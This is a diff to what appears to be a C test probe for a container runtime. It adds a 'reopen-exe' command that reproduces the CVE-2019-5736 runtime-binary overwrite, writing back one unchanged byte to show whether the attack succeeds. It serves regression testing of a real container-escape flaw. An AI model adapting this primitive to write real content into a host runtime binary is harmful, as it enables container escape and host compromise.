@@ -609,6 +609,46 @@ cmd_sleep (const char *secs)
   return 0;
 }
 
+/* "reopen-exe PID": the CVE-2019-5736 attack on a runtime process visible
+   in the container (a created container's init, a runtime exec helper):
+   keep /proc/PID/exe open while PID still runs the runtime, wait (up to
+   30 s) until PID has exec'd something else, then reopen the kept file for
+   writing and write back its first byte (so a successful attack changes no
+   content).  Prints "held", then "ok" when the runtime's binary took the
+   write (the attack worked) or the error.  */
+static int
+cmd_reopen_exe (const char *pid)
+{
+  char path[64], self[64];
+  struct stat held, now;
+  unsigned char first;
+  snprintf (path, sizeof path, "/proc/%s/exe", pid);
+  int fd = open (path, O_PATH | O_CLOEXEC);
+  if (fd < 0 || fstat (fd, &held) < 0)
+    return fail_errno (path);
+  printf ("held\n");
+  fflush (stdout);
+  for (int i = 0; i < 3000; i++)
+    {
+      if (stat (path, &now) < 0 || now.st_dev != held.st_dev || now.st_ino != held.st_ino)
+        break;
+      usleep (10000);
+    }
+  snprintf (self, sizeof self, "/proc/self/fd/%d", fd);
+  int r = open (self, O_RDONLY | O_CLOEXEC);
+  if (r < 0 || pread (r, &first, 1, 0) != 1)
+    return fail_errno (self);
+  close (r);
+  int w = open (self, O_WRONLY | O_CLOEXEC);
+  if (w < 0)
+    return fail_errno (self);
+  if (pwrite (w, &first, 1, 0) != 1)
+    return fail_errno (self);
+  close (w);
+  printf ("ok\n");
+  return 0;
+}
+
 static int
 cmd_loop (void)
 {
@@ -679,7 +719,7 @@ usage (FILE *out)
                 "  ids | caps | rlimit NAME | rlimits | hostname | domainname | cwd | env NAME\n"
                 "  umask | nnp | oom | status FIELD | mountinfo [DEST] | stat PATH | readlink PATH\n"
                 "  write PATH [DATA] | read PATH | cat PATH | fds | pid | ppid | ns TYPE | personality\n"
-                "  ioprio | sched | sysctl KEY | tty | clock | cgroup | exe | all\n"
+                "  ioprio | sched | sysctl KEY | tty | clock | cgroup | exe | reopen-exe PID | all\n"
                 "  exit N | sleep N | loop | signal-exit [SIGNUM] | wait-file PATH [SECS] | help\n");
 }
 
@@ -808,6 +848,11 @@ dispatch (int argc, char **argv)
     }
   if (!strcmp (c, "loop"))
     return cmd_loop ();
+  if (!strcmp (c, "reopen-exe"))
+    {
+      NEED (1);
+      return cmd_reopen_exe (a1);
+    }
   if (!strcmp (c, "signal-exit"))
     return cmd_signal_exit (a1);
   if (!strcmp (c, "wait-file"))
